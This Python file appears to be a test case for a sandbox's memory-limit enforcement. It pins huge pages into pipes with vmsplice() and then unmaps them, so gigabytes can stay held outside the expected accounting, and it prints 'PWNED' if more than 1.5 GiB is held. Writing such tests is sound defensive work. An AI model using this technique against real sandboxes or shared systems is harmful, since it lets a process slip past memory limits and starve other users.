# CLASS: memory   SEVERITY: must   TIMEOUT: 6
# EXPECT: huge pages that only pipes refer to, by vmsplice() of one byte of each and munmap(), count as memory.
import ctypes
import mmap
import os
import time

libc = ctypes.CDLL(None, use_errno=True)
HUGE, MADV_HUGEPAGE = 2 << 20, 14


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def resident():
    with open("/proc/self/statm") as file:
        return int(file.read().split()[1]) * 4096


held, pipes = 0, []
try:
    while held < 2600 << 20:
        pipes.append(os.pipe())
        before = resident()
        region = mmap.mmap(-1, 17 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        view = ctypes.c_char.from_buffer(region)
        first = -(-ctypes.addressof(view) // HUGE) * HUGE
        libc.madvise(ctypes.c_void_p(first), ctypes.c_size_t(16 * HUGE), MADV_HUGEPAGE)
        ctypes.memset(first, 1, 16 * HUGE)
        pinned = sum(
            libc.vmsplice(pipes[-1][1], ctypes.byref(Vector(first + n * HUGE, 1)), ctypes.c_size_t(1), 2) == 1
            for n in range(16)
        )
        if pinned < 16 or resident() - before < 16 * HUGE:
            print("pinned", pinned, os.strerror(ctypes.get_errno()))
            break
        held += 16 * HUGE
        del view
        region.close()
except (OSError, ValueError) as error:
    print(error)

time.sleep(0.5)
print("PWNED" if held > 1536 << 20 else "held", held >> 20, "MiB", flush=True)
